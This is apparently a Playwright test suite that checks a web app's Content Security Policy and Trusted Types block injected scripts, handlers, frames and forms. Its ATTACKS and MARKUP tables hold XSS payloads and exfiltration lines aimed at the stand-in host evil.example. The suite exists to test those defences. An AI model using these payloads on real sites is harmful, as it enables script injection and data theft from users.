"""What gets into a page by some hole does nothing there: the policy stops it (A61)."""

import pytest
from playwright.sync_api import Browser, Request, Route

from tests.browser.conftest import Site
from tests.browser.test_account_flows import sign_in

#: What a hole would let in; each would leave its mark.
ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.harmed = 1'; add(s);",
    "foreign script": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; add(s);",
    "script as data": "const s = document.createElement('script'); s.src = 'data:text/javascript,harmed=1'; add(s);",
    "handler": "const i = document.createElement('div'); i.innerHTML = '<img src=x onerror=\"harmed=1\">'; add(i);",
    "javascript link": "const a = document.createElement('a'); a.href = 'javascript:harmed=1'; add(a); a.click();",
    "frame": "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; add(f);",
    "foreign picture": "const i = new Image(); i.src = 'https://evil.example/steal?x'; add(i);",
    "style": "const s = document.createElement('style'); s.textContent = 'body{background:red}'; add(s);",
    "base": "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.prepend(b);",
    "beacon": "fetch('https://evil.example/steal', {mode: 'no-cors'}).catch(() => 0);",
    "form": "const f = document.createElement('form'); f.action = 'https://evil.example/'; add(f); f.submit();",
}

STOPPED_BY = {
    "inline script": "require-trusted-types-for",
    "foreign script": "require-trusted-types-for",
    "script as data": "require-trusted-types-for",
    "handler": "require-trusted-types-for",
    "javascript link": "script-src-elem",
    "frame": "frame-src",
    "foreign picture": "img-src",
    "style": "style-src-elem",
    "base": "base-uri",
    "beacon": "connect-src",
    "form": "form-action",
}
#: What a hole in a template would let in, with the directive that stops it: there Trusted Types see nothing.
MARKUP = {
    "inline script": ("<script>window.harmed = 1</script>", "script-src-elem"),
    "guessed nonce": ("<script nonce='AAAAAAAAAAAAAAAAAAAAAA'>window.harmed = 1</script>", "script-src-elem"),
    "foreign script": ("<script src='https://evil.example/x.js'></script>", "script-src-elem"),
    "script as data": ("<script src='data:text/javascript,harmed=1'></script>", "script-src-elem"),
    "handler": ("<img src='data:x' onerror='window.harmed = 1' alt>", "script-src-attr"),
}


@pytest.mark.parametrize("attack", list(MARKUP))
def test_what_is_written_into_a_page_does_nothing(chromium: Browser, site: Site, attack: str) -> None:
    markup, directive = MARKUP[attack]

    def write(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{markup}</main>"))

    with chromium.new_context(base_url=site.url) as context:
        page = context.new_page()
        page.add_init_script(
            "window.stopped = []; document.addEventListener('securitypolicyviolation',"
            " (e) => window.stopped.push(e.effectiveDirective))"
        )
        page.route("**/auth/login", write)
        page.goto("/auth/login")
        page.wait_for_function("window.stopped.length > 0")
        assert page.evaluate("window.stopped") == [directive]
        assert page.evaluate("window.harmed") is None


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_what_is_injected_does_nothing(chromium: Browser, site: Site, attack: str) -> None:
    alice = site.person(f"Alice {attack}")
    context = chromium.new_context(base_url=site.url)
    asked: list[Request] = []
    context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - Playwright marks what it is given
    page = context.new_page()
    sign_in(page, alice.email)
    page.goto("/account/profile")
    asked.clear()
    stopped = page.evaluate(
        """(attack) => new Promise((done) => {
            const stopped = [];
            document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));
            const add = (element) => document.body.append(element);
            try { Function('add', attack)(add); } catch (refused) { if (refused.name !== 'TypeError') throw refused; }
            setTimeout(() => done(stopped), 400);
        })""",
        ATTACKS[attack],
    )
    assert stopped == [STOPPED_BY[attack]]
    assert {request.failure for request in asked if "evil.example" in request.url} <= {"csp"}, (
        "nothing went out"
    )
    assert page.evaluate("window.harmed") is None
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert page.url == f"{site.url}/account/profile"
    context.close()
